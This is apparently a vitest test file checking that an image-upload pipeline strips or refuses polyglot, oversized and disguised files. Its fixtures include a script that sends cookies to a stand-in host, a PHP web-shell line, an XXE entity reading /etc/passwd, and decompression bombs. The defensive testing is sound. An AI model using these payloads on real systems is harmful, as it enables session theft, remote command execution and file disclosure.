// Files that are two things at once, or not what they say: each is refused, or only its pixels are kept.
import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { HARD_LIMIT_BYTES } from '../../bot/intake/byte-limit.ts'
import { sharp } from '../../bot/intake/libvips.ts'
import { takePicture } from '../../bot/intake/pipeline.ts'
import { EICAR } from '../fakes/clamd/fake-clamd.ts'
import { ZIP_TAIL, SVG, cameraJpeg, chunk, image, jpeg, jpegClaiming, pngBomb } from './photos.ts'
import { besidePixels } from './plain-jpeg.ts'
import { pdf } from './pdf/pdfs.ts'

const rules = { types: ['jpeg', 'png', 'webp'], maxBytes: HARD_LIMIT_BYTES, shrink: true } as const
const SCRIPT = Buffer.from('<script>fetch("http://192.0.2.1/?"+document.cookie)</script><?php system($_GET[0]);?>')

/** A JPEG with a comment segment (ITU-T T.81, B.2.4.5) right after its start. */
async function commented(comment: Uint8Array): Promise<Buffer> {
  const photo = await jpeg()
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(comment.length + 2, 2)
  return Buffer.concat([photo.subarray(0, 2), head, comment, photo.subarray(2)])
}

/** A PNG with a text chunk, packed and bare, before its end. */
async function scriptedPng(): Promise<Buffer> {
  const whole = await image(120, 80).png().withXmp(`<x>${SCRIPT.toString()}</x>`).toBuffer()
  return Buffer.concat([whole, SCRIPT, deflateSync(SCRIPT)])
}

describe('a picture that is something else besides', () => {
  it.each<[string, () => Promise<Buffer>]>([
    ['an archive', async () => Buffer.concat([await jpeg(), ZIP_TAIL])],
    ['a web page', async () => Buffer.concat([await jpeg(), SCRIPT])],
    ['a script in a comment', () => commented(SCRIPT)],
    ['what every virus scanner finds', () => commented(EICAR)],
    ['a PDF', async () => Buffer.concat([await jpeg(), pdf()])],
    ['a PDF in a comment, where readers look for it', () => commented(pdf())],
    ['a PNG with scripts', scriptedPng],
    ['a WebP with an archive', async () => Buffer.concat([await image(120, 80).webp().toBuffer(), ZIP_TAIL])],
    ['where and with what it was taken', cameraJpeg],
    ['a second picture', async () => Buffer.concat([await jpeg(), await jpeg(100, 100)])],
  ])('SIN-182 loses it: %s', async (_what, make) => {
    const bytes = await make()
    const taken = await takePicture({ bytes, rules })
    if (!taken.ok) throw new Error(`refused: ${taken.problem}`)
    for (const { jpeg: kept } of [taken.photo, taken.thumbnail]) {
      expect(besidePixels(kept)).toEqual([])
      for (const trace of ['PK\x03\x04', 'script', 'EICAR', '%PDF', 'Exif', 'GPS', 'Siti'])
        expect(Buffer.from(kept).includes(Buffer.from(trace, 'latin1'))).toBe(false)
    }
  })

  it('is seen to be so by the test itself', async () => {
    expect(besidePixels(await cameraJpeg())).toEqual(expect.arrayContaining(['APP1']))
    expect(besidePixels(await commented(SCRIPT))).toContain('COM')
    expect(besidePixels(Buffer.concat([await jpeg(), ZIP_TAIL]))).toEqual(['tail'])
    expect(besidePixels((await jpeg()).subarray(0, -2))).toEqual(['no end'])
    expect(besidePixels(SCRIPT)).toEqual(['no JPEG'])
    expect(besidePixels(await image().jpeg({ progressive: true }).toBuffer())).toEqual([])
  })
})

/** A JPEG with something before its end mark. */
async function before(more: Uint8Array): Promise<Buffer> {
  const photo = await jpeg(200, 100)
  return Buffer.concat([photo.subarray(0, -2), more, photo.subarray(-2)])
}

/** A JPEG whose colour profile fills every segment that one may have (ICC.1:2022, annex B.4), with noise. */
async function profiled(): Promise<Buffer> {
  const photo = await jpeg(200, 100)
  const segments = Array.from({ length: 255 }, (_, at) => {
    const head = Buffer.concat([Buffer.from([0xff, 0xe2, 0xff, 0xff]), Buffer.from('ICC_PROFILE\0'), Buffer.from([at + 1, 255])])
    return Buffer.concat([head, Buffer.alloc(0xffff - 16, at)])
  })
  return Buffer.concat([photo.subarray(0, 2), ...segments, photo.subarray(2)])
}

/** A PNG of 200 x 100 pixels with further chunks behind its header. */
async function chunked(...chunks: readonly Buffer[]): Promise<Buffer> {
  const whole = await image(200, 100).png().toBuffer()
  return Buffer.concat([whole.subarray(0, 33), ...chunks, whole.subarray(33)])
}

/** A WebP of 200 x 100 pixels that moves. */
async function moving(frames: number): Promise<Buffer> {
  const raw = { width: 200, height: 100 * frames, channels: 3 as const, pageHeight: 100 }
  return sharp(Buffer.alloc(200 * 100 * frames * 3, 90), { raw })
    .webp()
    .toBuffer()
}

/** A progressive JPEG whose last scan comes again and again. */
async function scanned(times: number): Promise<Buffer> {
  const photo = await image(200, 100).jpeg({ progressive: true }).toBuffer()
  const scan = photo.subarray(photo.lastIndexOf(Buffer.from([0xff, 0xda])), -2)
  return Buffer.concat([photo.subarray(0, -2), ...Array.from({ length: times }, () => scan), photo.subarray(-2)])
}

const ZEROS = deflateSync(Buffer.alloc(100_000_000))

describe('a picture that has much beside its pixels', () => {
  it.each<[string, () => Promise<Buffer>]>([
    ['a colour profile of 16 MB', profiled],
    ['a million restart marks', () => before(Buffer.alloc(2_000_000, Buffer.from([0xff, 0xd0])))],
    ['a comment that unpacks to 100 MB', () => chunked(chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), ZEROS])))],
    ['a colour profile that unpacks to 100 MB', () => chunked(chunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), ZEROS])))],
    ['fifty thousand comments', () => chunked(...Array.from({ length: 50_000 }, () => chunk('tEXt', Buffer.from('a\0b'))))],
    ['further pictures of a PNG that moves', () => chunked(chunk('acTL', Buffer.from([0, 0, 0, 99, 0, 0, 0, 0])))],
    ['further pictures of a WebP that moves', () => moving(200)],
  ])('is taken for its pixels: %s', async (_what, make) => {
    const taken = await takePicture({ bytes: await make(), rules })
    expect(taken).toMatchObject({ ok: true, photo: { width: 200, height: 100 } })
    if (taken.ok) expect(besidePixels(taken.photo.jpeg)).toEqual([])
  })

  it('is refused when it comes ten thousand times', async () => {
    expect(await takePicture({ bytes: await scanned(10_000), rules })).toEqual({ ok: false, problem: 'damaged' })
  })
})

describe('what only calls itself a picture', () => {
  it.each<[string, () => Promise<Buffer> | Buffer]>([
    ['svg', () => Buffer.from(SVG)],
    ['svg', () => Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}`)],
    ['not-an-image', async () => image(40, 40).gif().toBuffer()],
    ['not-an-image', () => Buffer.concat([Buffer.from('GIF89a'), SCRIPT])],
    ['not-an-image', () => EICAR],
    ['not-an-image', () => SCRIPT],
    ['pdf', () => pdf()],
    ['pdf', () => Buffer.concat([Buffer.alloc(700, ' '), pdf()])],
    ['app', () => ZIP_TAIL],
    ['damaged', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), SCRIPT])],
    ['not-an-image', () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), SCRIPT])],
    ['damaged', async () => (await jpeg()).subarray(0, 9000)],
    ['damaged', async () => (await image(300, 200).png().toBuffer()).subarray(0, 20_000)],
    ['damaged', () => pngBomb(600, 600)],
    ['pixels', () => pngBomb(20_000, 20_000)],
    ['pixels', () => jpegClaiming(12_000, 9000, true)],
    ['pixels', () => jpegClaiming(65_000, 65_000, false)],
  ])('SIN-182 is refused: %s', async (problem, make) => {
    expect(await takePicture({ bytes: await make(), rules })).toEqual({ ok: false, problem })
  })
})
